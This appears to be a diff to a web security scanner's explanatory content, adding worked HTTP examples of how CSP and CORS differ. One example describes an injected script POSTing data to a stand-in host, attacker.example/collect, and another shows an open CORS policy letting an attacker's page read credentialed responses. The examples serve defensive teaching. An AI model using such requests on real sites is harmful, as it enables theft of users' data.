@@ -31,8 +31,51 @@ script from sending data away: that is CSP's work.
       blocks: [
         text(`
 They are independent: *Content-Security-Policy* is about the page you scanned, *Cross-Origin Resource Sharing* about what other pages get of it. Passed in the one
-says nothing of the other. One thing they share: the scan reads the origins in your CSP to learn which names your site knows, and asks as their look-alikes.
+says nothing of the other: a site may have a strict CSP and a CORS that lets everybody in, and the reverse.
         `),
+        example({
+          id: "strict-csp-open-cors",
+          title: "A strict CSP, and a CORS that lets everybody in",
+          says: "The attacker's page reads it: the CSP of an answer says nothing to pages that fetch it.",
+          exchange: {
+            origin: "https://attacker.example",
+            credentials: "include",
+            answer:
+              "HTTP/1.1 200 OK\nContent-Security-Policy: default-src 'none'; connect-src 'none'; frame-ancestors 'none'\nAccess-Control-Allow-Origin: https://attacker.example\nAccess-Control-Allow-Credentials: true",
+          },
+          gives: "read",
+        }),
+        example({
+          id: "no-csp-no-cors",
+          title: "No CSP, and no CORS",
+          says: "No page of another origin reads it. A script that was injected into the site's own page would.",
+          exchange: { origin: "https://attacker.example", answer: "HTTP/1.1 200 OK\nContent-Type: text/html" },
+          gives: "acao-missing",
+        }),
+        example({
+          id: "csp-allows-no-reading",
+          title: "A name in connect-src",
+          says: "It lets the site's own page ask that name. That name's pages get nothing by it.",
+          exchange: {
+            origin: "https://partner.example",
+            answer: "HTTP/1.1 200 OK\nContent-Security-Policy: connect-src https://partner.example",
+          },
+          gives: "acao-missing",
+        }),
+        example({
+          id: "csp-does-not-stop-sending",
+          title: "A message to the attacker's server, without any CORS there",
+          says: "An injected script sends it all the same, and CORS only hides the answer: what stops it is the page's own CSP.",
+          exchange: {
+            origin: "https://api.example",
+            url: "https://attacker.example/collect",
+            method: "POST",
+            headers: "Content-Type: text/plain",
+            mode: "no-cors",
+            answer: "HTTP/1.1 204 No Content",
+          },
+          gives: "opaque",
+        }),
       ],
     },
     {
